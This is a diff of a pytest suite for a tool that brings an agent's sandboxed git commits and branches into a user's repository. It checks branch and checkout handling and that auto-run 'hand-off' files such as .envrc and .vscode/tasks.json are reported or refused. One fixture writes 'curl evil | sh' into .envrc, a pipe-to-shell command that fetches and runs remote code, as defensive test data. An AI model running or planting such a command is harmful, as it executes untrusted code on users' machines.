@@ -95,25 +95,6 @@ def test_an_amended_commit_replaces_the_old_one_which_is_kept(planted: Planted) 
     assert "paddock: harvest" in planted.host("reflog", "-1")
 
 
-def test_a_branch_that_somebody_else_moved_stays_and_the_work_is_kept_beside(planted: Planted) -> None:
-    """When the user committed meanwhile, his branch is not touched; once he has merged, there is nothing left to do."""
-    (planted.worktree / "mine").write_text("mine\n")
-    planted.host("add", "mine")
-    planted.host("commit", "-q", "-m", "user: Mine.")
-    mine = planted.host("rev-parse", "HEAD")
-    new = planted.commit("theirs", "theirs\n")
-    for _ in range(2):
-        result = planted.harvest()
-        assert planted.host("rev-parse", "HEAD") == mine
-        kept = result["parts"][0]["kept"]
-        assert planted.host("rev-parse", kept) == new
-        assert result["state"] == "kept"
-        assert f"git merge --autostash {kept}" in result["notes"][0]
-    (planted.worktree / "theirs").unlink()
-    planted.host("merge", "-q", "--no-edit", kept)
-    assert planted.harvest()["state"] == "nothing"
-
-
 def test_a_branch_that_the_agent_has_merged_is_fast_forwarded(planted: Planted) -> None:
     """The user's commit of meanwhile is no obstacle when the agent's work contains it."""
     planted.host("commit", "-q", "--allow-empty", "-m", "user: Mine.")
@@ -129,8 +110,10 @@ def test_further_branches_are_offered_and_taken_by_name(planted: Planted) -> Non
     """A branch that the agent made stays in the private directory until it is asked for, and never hits another."""
     planted.agent("checkout", "-q", "-b", "topic")
     topic = planted.commit("file", "content\n")
+    own = planted.host("symbolic-ref", "HEAD")
     result = planted.harvest(follow=False)
     assert result["state"] == "nothing"
+    assert (planted.host("symbolic-ref", "HEAD"), planted.host("branch", "--list", "topic")) == (own, "")
     assert result["branches"] == ["topic"]
     assert "HEAD is on topic" in result["notes"][0]
     taken = planted.harvest(follow=False, branches={"topic": "agent-topic"})
@@ -169,9 +152,9 @@ def test_new_branches_and_tags_come_along_and_the_checkout_follows(planted: Plan
     assert planted.host("status", "--porcelain") == " M README.md"
 
 
-@pytest.mark.parametrize("what", ["moved", "elsewhere", "switched", "keep"])
+@pytest.mark.parametrize("what", ["moved", "elsewhere", "switched"])
 def test_the_checkout_stays_where_the_user_has_it(planted: Planted, what: str) -> None:
-    """A branch that he has moved, one that is checked out elsewhere, another HEAD, and the policy that says so."""
+    """A branch that he has moved, one that is checked out elsewhere, and another HEAD."""
     planted.agent("checkout", "-q", "-b", "topic")
     planted.commit("file", "content\n")
     own = planted.host("symbolic-ref", "HEAD")
@@ -183,9 +166,9 @@ def test_the_checkout_stays_where_the_user_has_it(planted: Planted, what: str) -
     elif what == "switched":
         planted.host("checkout", "-q", "-b", "of-the-user")
         own = "refs/heads/of-the-user"
-    result = planted.harvest(**({"follow": False} if what == "keep" else {}))
+    result = planted.harvest()
     assert planted.host("symbolic-ref", "HEAD") == own
-    assert ("topic" in planted.host("branch", "--list", "topic")) is (what != "keep")
+    assert "topic" in planted.host("branch", "--list", "topic")
     assert not any("the worktree is on" in note for note in result["notes"])
 
 
@@ -354,15 +337,6 @@ def _beside(planted: Planted, parent: str = "HEAD") -> str:
     return planted.agent("commit-tree", "-p", parent, "-m", "agent: Work.", f"{parent}^{{tree}}")
 
 
-def test_hand_off_files_of_further_branches_are_told_and_refused(planted: Planted) -> None:
-    """A branch that comes along by itself is looked at like the own one."""
-    planted.agent("checkout", "-q", "-b", "topic")
-    planted.commit(".envrc", "evil\n")
-    assert planted.harvest(strict=True)["errorType"] == "handoff-strict"
-    assert planted.host("branch", "--list", "topic") == ""
-    assert [path for _, path, _ in planted.harvest()["handoff"]] == [".envrc"]
-
-
 @pytest.mark.parametrize("anywhere", ["linked"], indirect=True)
 @pytest.mark.parametrize("way", ["stash", "untracked", "submodule", "moved"])
 def test_hand_off_files_that_no_branch_has_are_told_and_refused(anywhere: Planted, way: str) -> None:
@@ -437,7 +411,7 @@ def test_a_live_session_keeps_the_harvest_waiting(planted: Planted) -> None:
 
 
 def test_hand_off_files_in_commits_are_told_and_refused_when_strict(planted: Planted) -> None:
-    """With --strict-handoff commits that change such files stay in the private directory."""
+    """With --strict-handoff commits that change such files stay there; so does a branch that comes along by itself."""
     before = planted.host("rev-parse", "HEAD")
     planted.commit(".envrc", "curl evil | sh\n")
     refused = planted.harvest(strict=True)
@@ -447,6 +421,11 @@ def test_hand_off_files_in_commits_are_told_and_refused_when_strict(planted: Pla
     result = planted.harvest()
     assert result["state"] == "harvested"
     assert result["handoff"] == [["created", ".envrc", "report"]]
+    planted.agent("checkout", "-q", "-b", "topic")
+    planted.commit(".vscode/tasks.json", "{}\n")
+    assert planted.harvest(strict=True)["errorType"] == "handoff-strict"
+    assert planted.host("branch", "--list", "topic") == ""
+    assert [path for _, path, _ in planted.harvest()["handoff"]] == [".vscode/tasks.json"]
 
 
 def test_no_file_hides_behind_many_of_one_content(planted: Planted) -> None:
